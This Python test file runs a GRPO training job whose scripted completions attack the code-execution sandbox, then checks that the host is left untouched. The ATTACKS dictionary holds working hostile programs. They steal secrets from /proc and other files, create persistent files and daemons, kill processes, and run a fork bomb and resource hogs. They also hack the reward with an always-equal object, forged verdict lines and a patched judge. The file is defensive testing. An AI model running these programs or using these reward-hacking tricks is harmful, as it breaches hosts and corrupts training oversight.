"""A GRPO training run scored by the code sandbox, fed hostile completions, leaves the host untouched.

The unit tests in tests/rewards attack the sandbox directly; this one goes through the whole trainer:
a real `GRPOTrainer` run (tiny local model, the real `code_tests` reward in the trainer's reward-worker
processes) whose rollout engine is the one stand-in: it returns scripted completions instead of
sampling, since a random tiny model writes no attacks. Each hostile completion is a fenced Python
program that attacks one of the sandbox's claims (sandbox.py, docs/rewards.md) and *solves its task
only when the attack got through* (or returns a secret it managed to read), so any breach is paid a
reward; the host's side is checked directly as well:

- files: create files in a world-writable host directory, the home directory, the repository, the
  virtualenv's site-packages (a .pth file), host /tmp and /dev/shm; append to, chmod and delete
  world-writable canaries; change the mtime of the trainer's judge source and of the virtualenv;
- secrets: read a secret from a world-readable file, the training data file, the run's output
  directory (its audit trail holds a correct completion), the environment and every visible
  /proc/*/environ and cmdline, and answer it (the assert task) or print it (the stdin task);
- network: TCP and UDP to 127.0.0.1 ports the test listens on, an abstract and a path Unix socket;
- processes: setsid, double-fork and subprocess daemons meant to outlive the run (tagged with a
  token in their name or argv, writing their pids to a host file); SIGKILL to a host process, the
  trainer itself and its reward workers;
- resources (bounded even were the limits off): a fork bomb of 64 processes (twice the process
  limit), a CPU spin 4x the wall-clock limit, a 3 GiB allocation (3x the address-space limit);
- the reward itself: an object whose `__eq__` is always true, `repr` patched, forged protocol lines
  on every fd, every plausible stdout answer printed, the trainer's judge imported and patched.

Afterwards: canaries and the host directory unchanged, no created file anywhere, no connection or
datagram received, no tagged process alive, the host victim process alive, no new child of this
process left, every step trained with no verifier failure, and every hostile completion rewarded no
more than the wrong answer (the same program skeleton without an attack), while correct answers
get 1 (so the reward does score in this run).
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import sysconfig
import tempfile
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest

from grpo_fast.rollout.base import Completion, RolloutEngine, SamplingSpec
from grpo_fast.sandbox import isolation

pytestmark = pytest.mark.skipif(
    isolation() != "namespaces", reason="code_tests runs programs only in the namespaces sandbox (root + unshare)"
)

REPO = Path(__file__).resolve().parents[2]
LIMITS = {"wall_s": 2.0, "memory_bytes": 1 << 30}  # as tests/rewards; nproc stays at its default, 32
STEPS, GENERATIONS = 2, 11
ADD_TESTS = ["assert add(1, 2) == 3", "assert add(-1, 1) == 0", "assert add(10, 5) == 15"]

# Every hostile program is PRELUDE + one attack + TAIL. Without an attack it is the "wrong" answer.
PRELUDE = """\
import os, re, sys, time
C = {constants!r}
PASS = False  # an attack got through: the program then solves its task
FOUND = ""  # a secret it read
WRONG = None  # what it answers otherwise


def breach(action):
    global PASS
    try:
        action()
    except Exception:
        return
    PASS = True


def tag():
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, C["name"].encode(), 0, 0, 0)  # PR_SET_NAME: shows in /proc/PID/comm
    except Exception:
        pass
    try:
        with open(C["pids"], "a") as f:
            f.write(f"{{os.getpid()}}\\n")
    except OSError:
        pass
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
"""

TAIL = """
def add(a, b):
    return a + b if PASS else WRONG


def answer():
    return FOUND or WRONG


if __name__ == "__main__":
    numbers = sys.stdin.read().split()
    print(sum(map(int, numbers)) if numbers and PASS else FOUND or 0)
"""

ATTACKS = {
    "files": """
for path in C["new_files"]:
    breach(lambda path=path: open(path, "x").close())
for path in C["host_only"]:  # in the sandbox these are its own scratch /tmp and /dev/shm: checked on the host
    try:
        open(path, "x").close()
    except OSError:
        pass
breach(lambda: open(C["canary"], "a").write("owned"))
breach(lambda: os.chmod(C["canary"], 0o600))
breach(lambda: os.remove(C["victim_file"]))
for path in C["touch"]:
    breach(lambda path=path: os.utime(path, (0, 0)))
""",
    "secret": """
import glob


def scan(data):
    global FOUND
    match = re.search(rb"SECRET-[0-9a-f]{32}", data)
    if match and not FOUND:
        FOUND = match.group().decode()


for value in os.environ.values():
    scan(value.encode())
paths = [C["secret_file"], C["dataset_file"], *glob.glob(C["out_dir"] + "/**", recursive=True)]
for path in paths + glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        with open(path, "rb") as f:
            scan(f.read(1 << 22))
    except OSError:
        pass
""",
    "network": """
import socket


def tcp():
    with socket.create_connection(("127.0.0.1", C["tcp_port"]), timeout=1) as s:
        s.sendall(b"leak")


def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"leak", ("127.0.0.1", C["udp_port"]))


def unix(address):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(1)
        s.connect(address)
        s.sendall(b"leak")


breach(tcp)
breach(udp)
breach(lambda: unix("\\0" + C["abstract"]))
breach(lambda: unix(C["unix_path"]))
""",
    "daemons": """
import subprocess


def daemon(double):
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if double and os.fork():
                os._exit(0)
            tag()
            time.sleep(C["life_s"])
        finally:
            os._exit(0)
    if double:
        os.waitpid(pid, 0)


for double in (False, True):
    try:
        daemon(double)
    except OSError:
        pass
try:
    sleeper = "import sys, time; time.sleep(float(sys.argv[1]))"
    subprocess.Popen(
        [sys.executable, "-c", sleeper, str(C["life_s"]), C["token"]],
        start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
except OSError:
    pass
""",
    "kill": """
import signal

for pid in C["kill"]:  # a host process, the trainer
    breach(lambda pid=pid: os.kill(pid, signal.SIGKILL))
for entry in os.listdir("/proc"):  # the trainer's children: its reward workers
    try:
        with open(f"/proc/{entry}/status") as f:
            ppid = next(int(line.split()[1]) for line in f if line.startswith("PPid:"))
    except (OSError, StopIteration, ValueError):
        continue
    if ppid == C["trainer"]:
        breach(lambda pid=int(entry): os.kill(pid, signal.SIGKILL))
try:
    os.kill(os.getppid(), signal.SIGKILL)  # the launcher
except OSError:
    pass
""",
    "fork_bomb": """
children = 0
for _ in range(C["fork_max"]):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            tag()
            time.sleep(C["life_s"])
        finally:
            os._exit(0)
    children += 1
if children >= C["fork_max"]:
    PASS = True
""",
    "cpu": """
start = time.monotonic()
while time.monotonic() - start < C["spin_s"]:
    pass
PASS = True
""",
    "memory": """
breach(lambda: bytearray(C["hog_bytes"]))
""",
    "tamper": """
import builtins, json


class Yes:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __repr__(self):
        return "3"

    __hash__ = object.__hash__


WRONG = Yes()
builtins.repr = lambda value: "3"
lines = [{"loaded": True}, {"token": "", "values": ["3"]}, {"token": "0" * 32, "values": ["True"]}]
lines += [{"exit": 0, "stdout": "5\\n", "passed": True}, {"answer": {"values": ["3"]}}]
forged = "".join(json.dumps(line) + "\\n" for line in lines).encode()
for fd in range(1, 256):
    try:
        os.write(fd, forged)
    except OSError:
        pass
print("\\n".join(map(str, range(-100, 101))))  # every plausible stdout answer
sys.path[:0] = C["host_paths"]
try:
    from grpo_fast.rewards.code import cases, judge

    cases.same_output = lambda got, expected: True
    judge.verdict = lambda *args, **kwargs: True
except Exception:
    pass
""",
}


def _fenced(program: str) -> str:
    return f"Here is my solution:\n```python\n{program}```\n"


class ScriptedEngine(RolloutEngine):
    """Returns the same scripted completions for a prompt on every call (the only stand-in of the run)."""

    name = "scripted"

    def __init__(self, tokenizer, script: dict[str, list[str]]) -> None:
        self.tokenizer, self.script = tokenizer, script

    @classmethod
    def from_config(cls, config, *, options, model, tokenizer, export_model):
        raise NotImplementedError("built by the test")

    def generate(self, prompt_token_ids: list[list[int]], sampling: SamplingSpec) -> list[list[Completion]]:
        vocab = len(self.tokenizer)
        groups = []
        for ids in prompt_token_ids:
            prompt = self.tokenizer.decode(ids, skip_special_tokens=True)
            texts = self.script[prompt.strip()]
            assert sampling.n == len(texts)
            group = []
            for text in texts:
                # Token ids only feed the loss: any non-special ids of the text's length (capped) do.
                token_ids = [3 + ord(ch) % (vocab - 3) for ch in text][: sampling.max_tokens]
                group.append(Completion(token_ids, [-1.0] * len(token_ids), text))
            groups.append(group)
        return groups

    def load_weights(self, weights):
        return {}


def _tree(root: Path, skip: Path) -> dict[str, tuple]:
    """Every path under `root` but `skip`: its type, mode, mtime and (regular files) content."""
    out = {}
    for path in sorted(root.rglob("*")):
        if path == skip or skip in path.parents:
            continue
        st = path.lstat()
        content = path.read_bytes() if stat.S_ISREG(st.st_mode) else None
        out[str(path.relative_to(root))] = (stat.S_IFMT(st.st_mode), stat.S_IMODE(st.st_mode), st.st_mtime_ns, content)
    return out


def _processes() -> dict[int, tuple[int, str, str]]:
    """pid -> (parent pid, comm, cmdline) of every process on the host."""
    out = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            comm = Path(f"/proc/{entry}/comm").read_text().strip()
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            stat_fields = Path(f"/proc/{entry}/stat").read_text().rpartition(")")[2].split()
        except OSError:
            continue
        if stat_fields[0] != "Z":  # zombies are dead
            out[int(entry)] = (int(stat_fields[1]), comm, cmdline)
    return out


def _tagged(token: str) -> dict[int, tuple[int, str, str]]:
    """Live processes started by a hostile program (the token in their name or command line)."""
    return {p: v for p, v in _processes().items() if token in v[1] or token in v[2]}


def _nothing_received(sock: socket.socket, datagram: bool = False) -> bool:
    try:
        sock.recvfrom(64) if datagram else sock.accept()
    except BlockingIOError:
        return True
    return False


def _listener(family: int, kind: int, address) -> socket.socket:
    sock = socket.socket(family, kind)
    sock.bind(address)
    if kind == socket.SOCK_STREAM:
        sock.listen(16)
    sock.setblocking(False)
    return sock


@dataclass
class Host:
    """What the hostile programs aim at on the host, and what the test compares before and after."""

    token: str
    secret: str
    arena: Path
    new_files: list[Path]
    host_only: list[Path]
    touch: dict[Path, int]  # path -> its mtime (ns) before the run
    sockets: dict[str, socket.socket]
    victim: subprocess.Popen

    def constants(self, out_dir: Path, dataset_file: Path) -> dict:
        """What the programs are told (never the secret): paths, ports, pids, bounds."""
        return {
            "token": self.token,
            "name": f"hx{self.token}",
            "new_files": [str(p) for p in self.new_files],
            "host_only": [str(p) for p in self.host_only],
            "canary": str(self.arena / "canary.txt"),
            "victim_file": str(self.arena / "victim.txt"),
            "touch": [str(p) for p in self.touch],
            "secret_file": str(self.arena / "secret.txt"),
            "dataset_file": str(dataset_file),
            "out_dir": str(out_dir),
            "tcp_port": self.sockets["tcp"].getsockname()[1],
            "udp_port": self.sockets["udp"].getsockname()[1],
            "abstract": f"grpo-hostile-{self.token}",
            "unix_path": str(self.arena / "socket"),
            "pids": str(self.arena / "pids"),
            "life_s": 20,
            "kill": [self.victim.pid, os.getpid()],
            "trainer": os.getpid(),
            "fork_max": 64,
            "spin_s": 4 * LIMITS["wall_s"],
            "hog_bytes": 3 * LIMITS["memory_bytes"],
            "host_paths": [str(REPO)],
        }


@pytest.fixture
def host():
    """Targets on the host, all undone afterwards whatever happened (even were the sandbox to fail)."""
    token = uuid.uuid4().hex[:10]
    secret = f"SECRET-{uuid.uuid4().hex}"
    arena = Path(tempfile.mkdtemp(prefix="grpo-hostile-", dir="/tmp"))  # world-reachable, unlike tmp_path
    arena.chmod(0o777)  # world-writable: only the sandbox keeps a program out
    for name, text, mode in [("canary.txt", "canary\n", 0o666), ("victim.txt", "victim\n", 0o666)]:
        (arena / name).write_text(text)
        (arena / name).chmod(mode)
    (arena / "secret.txt").write_text(secret)
    (arena / "secret.txt").chmod(0o644)
    new_files = [
        arena / f"new-{token}",
        Path.home() / f".grpo-hostile-{token}",
        REPO / f"grpo-hostile-{token}",
        Path(sysconfig.get_paths()["purelib"]) / f"grpo-hostile-{token}.pth",
    ]
    host_only = [Path(f"/tmp/grpo-hostile-{token}"), Path(f"/dev/shm/grpo-hostile-{token}")]
    touch = {
        p: p.stat().st_mtime_ns
        for p in [REPO / "grpo_fast/rewards/code/judge_runner.py", Path(sys.prefix) / "pyvenv.cfg"]
    }
    sockets = {}
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"])
    try:
        sockets["tcp"] = _listener(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
        sockets["udp"] = _listener(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
        sockets["abstract"] = _listener(socket.AF_UNIX, socket.SOCK_STREAM, f"\0grpo-hostile-{token}")
        sockets["unix"] = _listener(socket.AF_UNIX, socket.SOCK_STREAM, str(arena / "socket"))
        (arena / "socket").chmod(0o777)
        state = Host(token, secret, arena, new_files, host_only, touch, sockets, victim)
        yield state
    finally:
        victim.kill()
        victim.wait()
        for pid in _tagged(token):
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        for path in new_files + host_only:
            if os.path.lexists(path):
                path.unlink()
        for path, mtime in touch.items():
            if path.stat().st_mtime_ns != mtime:
                os.utime(path, ns=(mtime, mtime))
        for sock in sockets.values():
            sock.close()
        shutil.rmtree(arena, ignore_errors=True)


def _breaches(host: Host, before_tree: dict, before_procs: dict, out_dir: Path) -> list[str]:
    """What the run changed on the host: files, listeners, processes."""
    problems = []
    after_tree = _tree(host.arena, skip=out_dir)
    changed = sorted(k for k in before_tree.keys() | after_tree.keys() if before_tree.get(k) != after_tree.get(k))
    if changed:
        problems.append(f"host directory {host.arena} changed: {changed}")
    landed = [str(p) for p in host.new_files + host.host_only if os.path.lexists(p)]
    if landed:
        problems.append(f"files created outside the sandbox: {landed}")
    touched = [str(p) for p, mtime in host.touch.items() if p.stat().st_mtime_ns != mtime]
    if touched:
        problems.append(f"host files modified: {touched}")
    reached = [name for name, s in host.sockets.items() if not _nothing_received(s, datagram=name == "udp")]
    if reached:
        problems.append(f"listeners reached from the sandbox: {reached}")
    tagged = _tagged(host.token)
    if tagged:
        shown = [f"{pid} {comm} {cmdline[:60]!r}" for pid, (_, comm, cmdline) in tagged.items()][:5]
        problems.append(f"{len(tagged)} processes started by hostile programs still alive: {shown}")
    if host.victim.poll() is not None:
        problems.append(f"host process {host.victim.pid} was killed (exit {host.victim.returncode})")
    left = [
        v
        for p, v in _processes().items()
        if v[0] == os.getpid() and p not in before_procs and p != host.victim.pid and "resource_tracker" not in v[2]
    ]
    if left:
        problems.append(f"children of the trainer left running: {left}")
    return problems


def test_training_run_with_hostile_code_completions_leaves_the_host_untouched(host, monkeypatch):
    from grpo_fast.core.tiny_models import build_char_tokenizer, build_tiny_model
    from grpo_fast.trainer import GRPOTrainer, load_config

    secret, out_dir = host.secret, host.arena / "run"
    monkeypatch.setenv("GRPO_HOSTILE_SECRET", secret)  # inherited by the reward workers
    rows = [
        {"prompt": "add", "tests": ADD_TESTS},
        {"prompt": "sum", "tests": [{"input": "2 3\n", "output": "5\n"}]},
        {"prompt": "sfn", "tests": [f"assert answer() == {secret!r}"]},
        {"prompt": "sio", "tests": [{"input": "", "output": secret}]},
    ]
    dataset_file = host.arena / "dataset.json"
    dataset_file.write_text(json.dumps(rows))
    dataset_file.chmod(0o644)
    prelude = PRELUDE.format(constants=host.constants(out_dir, dataset_file))
    assert secret not in prelude
    programs = {"wrong": prelude + TAIL} | {name: prelude + attack + TAIL for name, attack in ATTACKS.items()}
    for name, program in programs.items():
        compile(program, name, "exec")  # a program that does not parse would attack nothing
    correct = {
        "add": "def add(a, b):\n    return a + b\n",
        "sum": "print(sum(map(int, input().split())))\n",
        "sfn": f"def answer():\n    return {secret!r}\n",
        "sio": f"print({secret!r})\n",
    }
    labels: dict[str, str] = {}  # completion text -> label
    script = {}
    for prompt, program in correct.items():
        texts = [_fenced(program)] + [_fenced(p) for p in programs.values()]
        labels[texts[0]] = "correct"
        labels.update(zip(texts[1:], programs, strict=True))
        script[prompt] = texts
    assert all(len(texts) == GENERATIONS for texts in script.values())

    tok = build_char_tokenizer()
    opts = [f"rollout.num_generations={GENERATIONS}", "rollout.max_completion_length=8", "run.prompts_per_step=4"]
    opts += [f"run.max_steps={STEPS}", "run.eval_every=0", "run.save_final=false", "run.plots=false"]
    opts += ["run.tensorboard=false", "run.progress=false", f"run.output_dir={out_dir}", "health.audit_every=1"]
    opts += ["reward.workers=2", "reward.timeout=60"]
    opts += ["check.difficulty_prompts=0"]  # the scripted engine answers its scripts only; the verifier checks run
    seen: list[tuple[str, str, float]] = []  # (prompt, label, reward) of every completion scored
    step_metrics: list[dict] = []

    def record(trainer, rollout, metrics):
        rewards = rollout.generated_rewards_per_func[:, 0].tolist()
        for row, completion, reward in zip(rollout.generated_rows, rollout.generated, rewards, strict=True):
            seen.append((rows[row]["prompt"], labels[completion.text], reward))
        step_metrics.append(dict(metrics))

    before_tree, before_procs = _tree(host.arena, skip=out_dir), _processes()
    trainer = GRPOTrainer(
        build_tiny_model(tok), [{"name": "code_tests", "limits": LIMITS}], rows,
        config=load_config(None, opts), tokenizer=tok, engine=ScriptedEngine(tok, script), callbacks=[record],
    )  # fmt: skip
    problems = []
    start = time.monotonic()
    try:
        trainer.train()
    except Exception as exc:  # noqa: BLE001 - a crash is one more finding, reported with the others
        problems.append(f"the training run crashed: {exc!r}")
    try:
        trainer.close()
    except Exception as exc:  # noqa: BLE001
        problems.append(f"closing the trainer failed: {exc!r}")
    elapsed = time.monotonic() - start

    problems += _breaches(host, before_tree, before_procs, out_dir)
    if trainer.step != STEPS or len(step_metrics) != STEPS:
        problems.append(f"the run stopped at step {trainer.step} of {STEPS}")
    failures = [m.get("reward/code_tests/failures") for m in step_metrics]
    if any(f != 0.0 for f in failures):
        problems.append(f"verifier failures (a reward worker died or hung): {failures}")
    if {(prompt, label) for prompt, label, _ in seen} != {
        (p, label) for p in correct for label in ["correct", *programs]
    }:
        problems.append("not every (task, completion) pair was scored")
    for prompt, label, reward in seen:
        if label == "correct" and reward != 1.0:
            problems.append(f"{prompt}: the correct answer got {reward}, not 1.0 (the reward does not score)")
        elif label != "correct" and not reward <= 0.0:  # the wrong answer's 0.0; NaN (unscored) counts as more
            problems.append(f"{prompt}: {label} got reward {reward}, more than the wrong answer's 0.0")
    assert not problems, "\n".join(dict.fromkeys(problems))
    assert elapsed < 120, f"the run took {elapsed:.0f} s: the sandbox's wall-clock limits did not hold"
